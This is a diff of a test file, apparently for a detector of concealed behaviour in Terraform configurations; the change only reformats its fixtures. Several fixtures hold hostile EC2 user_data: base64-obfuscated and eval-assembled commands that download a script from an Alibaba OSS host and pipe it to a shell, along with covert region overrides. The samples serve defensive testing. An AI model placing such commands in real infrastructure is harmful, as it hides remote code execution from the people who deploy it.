@@ -65,25 +65,46 @@ test.each<readonly [hidden: string, tree: Tree]>([
   [
     "varfile in makefile",
     {
-      "main.tf":
-        'variable "r" {\n default="eu-west-1"\n}\nprovider "aws" {\n region = var.r\n}\nresource "aws_sqs_queue" "q" {}\n',
+      "main.tf": `variable "r" {
+ default="eu-west-1"
+}
+provider "aws" {
+ region = var.r
+}
+resource "aws_sqs_queue" "q" {}
+`,
       Makefile: "deploy:\n\tterraform apply -var r=cn-north-1\n",
     },
   ],
   [
     "tfvar env workflow",
     {
-      "main.tf":
-        'variable "r" {\n default="eu-west-1"\n}\nprovider "aws" {\n region = var.r\n}\nresource "aws_sqs_queue" "q" {}\n',
-      ".github/workflows/d.yml":
-        "on: push\njobs:\n  a:\n    runs-on: x\n    env: {TF_VAR_r: cn-north-1}\n    steps:\n    - run: terraform apply\n",
+      "main.tf": `variable "r" {
+ default="eu-west-1"
+}
+provider "aws" {
+ region = var.r
+}
+resource "aws_sqs_queue" "q" {}
+`,
+      ".github/workflows/d.yml": `on: push
+jobs:
+  a:
+    runs-on: x
+    env: {TF_VAR_r: cn-north-1}
+    steps:
+    - run: terraform apply
+`,
     },
   ],
   [
     "workspace lookup default",
     {
-      "main.tf":
-        'provider "aws" {\n region = lookup({dev="eu-west-1"}, terraform.workspace, "cn-north-1")\n}\nresource "aws_sqs_queue" "q" {}\n',
+      "main.tf": `provider "aws" {
+ region = lookup({dev="eu-west-1"}, terraform.workspace, "cn-north-1")
+}
+resource "aws_sqs_queue" "q" {}
+`,
     },
   ],
   [
@@ -112,25 +133,51 @@ test.each<readonly [hidden: string, tree: Tree]>([
   [
     "heredoc b64 pipe",
     {
-      "main.tf": `${fine}resource "aws_instance" "w" {\n  ami = "a"\n  instance_type = "t"\n  user_data = <<-E\n    #!/bin/sh\n    echo IyEvYmluL3NoCmN1cmwgLWZzU0wgaHR0cHM6Ly9vc3MtY24taGFuZ3pob3UuYWxpeXVuY3MuY29tL3ggfCBzaAo= | base64 -d | sh\n  E\n}\n`,
+      "main.tf": `${fine}resource "aws_instance" "w" {
+  ami = "a"
+  instance_type = "t"
+  user_data = <<-E
+    #!/bin/sh
+    echo IyEvYmluL3NoCmN1cmwgLWZzU0wgaHR0cHM6Ly9vc3MtY24taGFuZ3pob3UuYWxpeXVuY3MuY29tL3ggfCBzaAo= | base64 -d | sh
+  E
+}
+`,
     },
   ],
   [
     "heredoc printf pipe",
     {
-      "main.tf": `${fine}resource "aws_instance" "w" {\n  ami = "a"\n  instance_type = "t"\n  user_data = <<-E\n    #!/bin/sh\n    printf '%s' "$(echo IyEvYmluL3NoCmN1cmwgLWZzU0wgaHR0cHM6Ly9vc3MtY24taGFuZ3pob3UuYWxpeXVuY3MuY29tL3ggfCBzaAo= | base64 --decode)" | bash\n  E\n}\n`,
+      "main.tf": `${fine}resource "aws_instance" "w" {
+  ami = "a"
+  instance_type = "t"
+  user_data = <<-E
+    #!/bin/sh
+    printf '%s' "$(echo IyEvYmluL3NoCmN1cmwgLWZzU0wgaHR0cHM6Ly9vc3MtY24taGFuZ3pob3UuYWxpeXVuY3MuY29tL3ggfCBzaAo= | base64 --decode)" | bash
+  E
+}
+`,
     },
   ],
   [
     "ud gzip b64",
     {
-      "main.tf": `${fine}resource "aws_instance" "w" {\n ami="a"\n instance_type="t"\n user_data_base64="H4sIAAAAAAACA1NW1E/KzNMvzuBKLi3KUdBNKw72UcgoKSkottLXzy8u1k3O081IzEuvysgv1UvMyawszUsu1kvOz9WvUKhRAGoDAAb9/QBBAAAA"\n}\n`,
+      "main.tf": `${fine}resource "aws_instance" "w" {
+ ami="a"
+ instance_type="t"
+ user_data_base64="H4sIAAAAAAACA1NW1E/KzNMvzuBKLi3KUdBNKw72UcgoKSkottLXzy8u1k3O081IzEuvysgv1UvMyawszUsu1kvOz9WvUKhRAGoDAAb9/QBBAAAA"
+}
+`,
     },
   ],
   [
     "ud base64gzip fn file missing",
     {
-      "main.tf": `${fine}resource "aws_instance" "w" {\n ami="a"\n instance_type="t"\n user_data_base64=base64gzip(file("no.sh"))\n}\n`,
+      "main.tf": `${fine}resource "aws_instance" "w" {
+ ami="a"
+ instance_type="t"
+ user_data_base64=base64gzip(file("no.sh"))
+}
+`,
     },
   ],
   [
@@ -149,7 +196,15 @@ test.each<readonly [hidden: string, tree: Tree]>([
   [
     "ud eval vars",
     {
-      "main.tf": `${fine}resource "aws_instance" "w" {\n  ami = "a"\n  instance_type = "t"\n  user_data = <<-E\n    #!/bin/sh\n    A=oss-cn-hangzhou; B=aliyuncs.com; eval "curl https://$A.$B/x"\n  E\n}\n`,
+      "main.tf": `${fine}resource "aws_instance" "w" {
+  ami = "a"
+  instance_type = "t"
+  user_data = <<-E
+    #!/bin/sh
+    A=oss-cn-hangzhou; B=aliyuncs.com; eval "curl https://$A.$B/x"
+  E
+}
+`,
     },
   ],
   [
